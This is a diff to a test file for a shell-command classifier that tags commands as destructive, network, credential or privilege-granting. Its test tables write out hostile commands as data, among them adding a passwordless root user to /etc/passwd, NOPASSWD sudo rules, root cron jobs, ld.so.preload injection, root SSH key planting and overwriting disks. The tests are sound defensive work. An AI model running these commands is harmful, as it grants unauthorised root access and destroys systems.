@@ -63,19 +63,35 @@ describe('programs that leave for a shell or an interpreter through their option
 
 describe('files written through options and operands', () => {
   it.each([
-    ['echo x | dd of=/etc/passwd', ['destructive']],
-    ['sort -o /etc/passwd users.txt', ['destructive']],
+    ['echo x | dd of=/etc/hosts', ['destructive']],
+    ['sort -o /etc/hosts users.txt', ['destructive']],
     ['curl -sSLo /usr/bin/ls https://x.example/ls', ['destructive', 'network']],
     ['wget -O /etc/hosts https://x.example/hosts', ['destructive', 'network']],
-    ['openssl enc -d -in x.bin -out /etc/passwd', ['destructive']],
+    ['openssl enc -d -in x.bin -out /etc/hosts', ['destructive']],
     ['gcc -o /usr/bin/ls exploit.c', ['destructive']],
-    ['tar -cf /etc/passwd notes.txt', ['destructive']],
-    ['tar cf /etc/passwd notes.txt', ['destructive']],
+    ['tar -cf /etc/hosts notes.txt', ['destructive']],
+    ['tar cf /etc/passwd notes.txt', ['destructive', 'privilege']],
     ['ln -fs /bin/sh /bin/ln', ['destructive']],
-    [`find . -fprintf /etc/crontab 'x'`, ['destructive']],
+    [`find . -fprintf /etc/crontab 'x'`, ['destructive', 'privilege']],
     ['tcpdump -w /dev/sda', ['destructive']],
-    ['nmap -oG=/etc/passwd 10.0.0.1', ['destructive', 'network']],
-    ['scp host:passwd /etc/passwd', ['destructive', 'network']],
+    ['nmap -oG=/etc/hosts 10.0.0.1', ['destructive', 'network']],
+    ['scp host:passwd /etc/passwd', ['destructive', 'network', 'privilege']],
+    [`gawk 'BEGIN { print "x" > "/etc/hosts" }'`, ['destructive']],
+    [`awk '{ printf("%s\\n", $0) > "/usr/lib/x.so" }' in.txt`, ['destructive']],
+    [`mawk '{ print; print "x" >> "/dev/sda" }'`, ['destructive']],
+    [`gawk -i inplace '{ sub(/a/, "b") } 1' /etc/hosts`, ['destructive']],
+    [`sed -n '1s/.*/x/w /etc/hosts' in.txt`, ['destructive']],
+    [`sed -n '/a/w /usr/bin/ls' in.txt`, ['destructive']],
+    [`sed -e 'p' -e 'W /dev/sda' in.txt`, ['destructive']],
+    ['shuf -e x -o /etc/hosts', ['destructive']],
+    ['strace -f -o /etc/hosts ls', ['destructive']],
+    ['ltrace -o /usr/bin/ls ls', ['destructive']],
+    ['time -o /etc/hosts make', ['destructive']],
+    [`script -q -c 'ls' /etc/hosts`, ['destructive']],
+    ['screen -L -Logfile /etc/hosts ls', ['destructive']],
+    ['iptables-save -f /etc/hosts', ['destructive']],
+    ['patch -o /etc/hosts hosts fix.diff', ['destructive']],
+    [`socat -u 'exec:ls' open:/etc/hosts,creat`, ['destructive', 'network']],
   ])('%s', (command, expected) => {
     expect(classes(command)).toEqual(expected);
   });
@@ -88,6 +104,18 @@ describe('files written through options and operands', () => {
     'gcc -O2 -o build/app main.c',
     'ln -s ../shared/config.yml config.yml',
     'uniq in.txt out.txt',
+    `awk '{ print ($1 > 3) }' in.txt`,
+    `awk '{ print > $1 }' in.txt`,
+    `awk '$3 > 10 { print $1 }' /etc/hosts`,
+    `awk '{ print "a > /etc/hosts" }' in.txt`,
+    `awk '{ print > "out/" $1 ".txt" }' in.txt`,
+    `sed -n 'w out.txt' in.txt`,
+    `sed -n '/x/w /dev/stdout' in.txt`,
+    `sed 's/a/b/g' /etc/hosts`,
+    'strace -o trace.txt ls',
+    'time -o timing.txt make',
+    `script -q -c 'make' build.log`,
+    'shuf -o picked.txt in.txt',
   ])('finds nothing in %s', (command) => {
     expect(classes(command)).toEqual([]);
   });
@@ -137,4 +165,38 @@ describe('the account files given away, and password hashes read', () => {
       expect(classes(command)).toEqual([]);
     },
   );
+});
+
+describe('writes to the files that grant privileges', () => {
+  it.each([
+    [`echo 'x::0:0::/root:/bin/sh' >> /etc/passwd`, ['privilege']],
+    [`echo 'agent ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`, ['credentials', 'privilege']],
+    [`echo 'agent ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/agent`, ['credentials', 'privilege']],
+    [`echo '* * * * * root sh /tmp/x' >> /etc/crontab`, ['privilege']],
+    ['echo /tmp/x.so >> /etc//ld.so.preload', ['privilege']],
+    ['cat key.pub >> /root/.ssh/authorized_keys', ['credentials', 'privilege']],
+    ['echo x | dd of=/etc/passwd oflag=append conv=notrunc', ['privilege']],
+    [`gawk 'BEGIN { print "x::0:0::/:/bin/sh" >> "/etc/passwd" }'`, ['privilege']],
+    ['time -a -o /etc/cron.d/x ls', ['privilege']],
+    ['wget -a /etc/profile.d/x.sh https://x.example', ['network', 'privilege']],
+    [`perl -e 'open(F, ">>/etc/passwd"); print F "x"'`, ['privilege']],
+    [`echo x > /etc/./passwd`, ['destructive', 'privilege']],
+    ['cp ./sudoers /etc/sudoers', ['credentials', 'destructive', 'privilege']],
+    [`sed -i 's/^root:x:/root::/' /etc/passwd`, ['destructive', 'privilege']],
+  ])('%s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
+
+  it.each([
+    ['cp /dev/null /etc/passwd', ['destructive']],
+    ['truncate -s 0 /etc/passwd', ['destructive']],
+    ['tee -a /etc/hosts', []],
+    ['echo 127.0.0.1 x.test >> /etc/hosts', []],
+    ['cat /etc/passwd', []],
+    ['grep root /etc/passwd > users.txt', []],
+    ['echo export X=1 >> ~/.bashrc', []],
+    ['echo done >> /tmp/log', []],
+  ])('judges other writes by what they do: %s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
 });
